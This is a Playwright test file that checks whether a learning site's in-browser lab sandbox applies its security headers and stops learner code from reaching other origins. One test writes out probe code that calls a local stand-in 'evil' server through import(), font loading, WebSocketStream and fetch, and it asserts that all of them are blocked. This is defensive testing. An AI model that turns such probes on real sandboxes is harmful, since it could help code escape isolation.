// The built site served as Netlify and Cloudflare Pages serve it (public/_headers applied), not by the
// dev tools: a lab page must be cross-origin isolated and its in-page runner must work there, and the
// worker that runs learner code must be unable to reach another origin.
import { createServer, type Server } from 'node:http';
import { resolve } from 'node:path';
import { readFileSync } from 'node:fs';
import { test, expect } from './fixtures.ts';
import { check, openLab, result, setFile } from './lab-helpers.ts';
import { serveFolder } from '../../scripts/static-server.ts';

const dist = resolve(process.env.ASTRO_OUT_DIR ?? 'dist');
const solution = (f: string) => readFileSync(new URL(`../../labs/03-first-handler/solution/${f}`, import.meta.url), 'utf8');

let site: { url: string; close(): Promise<void> };
/** Another origin an attacker would like to reach; it counts every request. */
let evil: Server;
let evilUrl = '';
let evilHits: string[] = [];

test.beforeAll(async () => {
  site = await serveFolder(dist);
  evil = createServer((req, res) => {
    evilHits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' }).end('export const pwned = 1;');
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilUrl = `http://127.0.0.1:${(evil.address() as { port: number }).port}`;
});
test.afterAll(async () => {
  await site.close();
  await new Promise((r) => evil.close(r));
});
test.beforeEach(({ baseURL: _ }, testInfo) => {
  evilHits = [];
  testInfo.setTimeout(90_000);
});

test.use({ baseURL: undefined });

/** The lab page's scripts, fetched until one names the lab-runner worker. */
async function findWorkerReference(request: import('@playwright/test').APIRequestContext, html: string): Promise<string> {
  const seen = new Set<string>();
  const queue = [...html.matchAll(/\/_astro\/[\w.-]+\.js/g)].map((m) => m[0]);
  while (queue.length && seen.size < 60) {
    const path = queue.shift()!;
    if (seen.has(path)) continue;
    seen.add(path);
    const js = await (await request.get(`${site.url}${path}`)).text();
    if (js.includes('lab-runner/lab-worker-')) return js;
    for (const m of js.matchAll(/["'`]\.?\/?([\w.-]+\.js)["'`]/g)) queue.push(`/_astro/${m[1]}`);
  }
  return '';
}

test('a deployed lab page is cross-origin isolated and its checks run in the page', async ({ page }) => {
  await page.goto(`${site.url}/labs/03-first-handler/?editor=plain`);
  await expect(page.locator('lab-workspace')).toBeVisible();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  for (const f of ['target.json', 'handler.ts', 'order-confirmed.schema.json']) await setFile(page, f, solution(f));
  await check(page);
  await expect(page.locator('.lab-results-summary')).toHaveText('All 12 checks passed. Lab complete!', { timeout: 30_000 });
});

test('every page gets the site policy; the lab runner gets its own, stricter one', async ({ request }) => {
  const home = await request.get(`${site.url}/`);
  expect(home.headers()['content-security-policy']).toContain("object-src 'none'");
  expect(home.headers()['x-content-type-options']).toBe('nosniff');
  expect(home.headers()['cross-origin-embedder-policy']).toBe('require-corp');
  const html = await (await request.get(`${site.url}/labs/03-first-handler/?editor=plain`)).text();
  const page = await request.get(`${site.url}/labs/03-first-handler/`);
  expect(page.headers()['cross-origin-opener-policy']).toBe('same-origin');
  // The worker's file name is in the built JavaScript; its response carries both policies.
  const worker = /_astro\/lab-runner\/lab-worker-[\w-]+\.js/.exec(await findWorkerReference(request, html));
  expect(worker).not.toBeNull();
  const workerPolicy = (await request.get(`${site.url}/${worker![0]}`)).headers()['content-security-policy'];
  expect(workerPolicy).toContain("default-src 'none'");
  const missing = await request.get(`${site.url}/_headers`);
  expect(missing.status()).toBe(404);
});

test('the lab worker cannot reach another origin: import(), fonts, WebSocketStream, fetch; the page stays responsive', async ({ page }) => {
  await page.goto(`${site.url}/labs/03-first-handler/?editor=plain`);
  await expect(page.locator('lab-workspace')).toBeVisible();
  await setFile(page, 'target.json', solution('target.json'));
  await setFile(
    page,
    'handler.ts',
    `export async function handler() {
  const tries: [string, () => Promise<unknown>][] = [
    ['import', () => import('${evilUrl}/module.js')],
    ['font', () => new (self as any).FontFace('x', 'url(${evilUrl}/font.woff2)').load()],
    ['wss', () => new Promise((ok, no) => { try { const s = new (self as any).WebSocketStream('ws://${evilUrl.slice(7)}/ws'); s.opened.then(ok, no); } catch (e) { no(e); } })],
    ['fetch', () => (self as any).fetch('${evilUrl}/fetch')],
  ];
  for (const [name, t] of tries) {
    try { await t(); console.log('reached', name); } catch (e) { console.log('blocked', name); }
  }
}
`,
  );
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.locator('.lab-output')).toContainText('blocked fetch', { timeout: 20_000 });
  const out = await page.locator('.lab-output').innerText();
  expect(out).not.toContain('reached');
  expect(evilHits).toEqual([]);
});
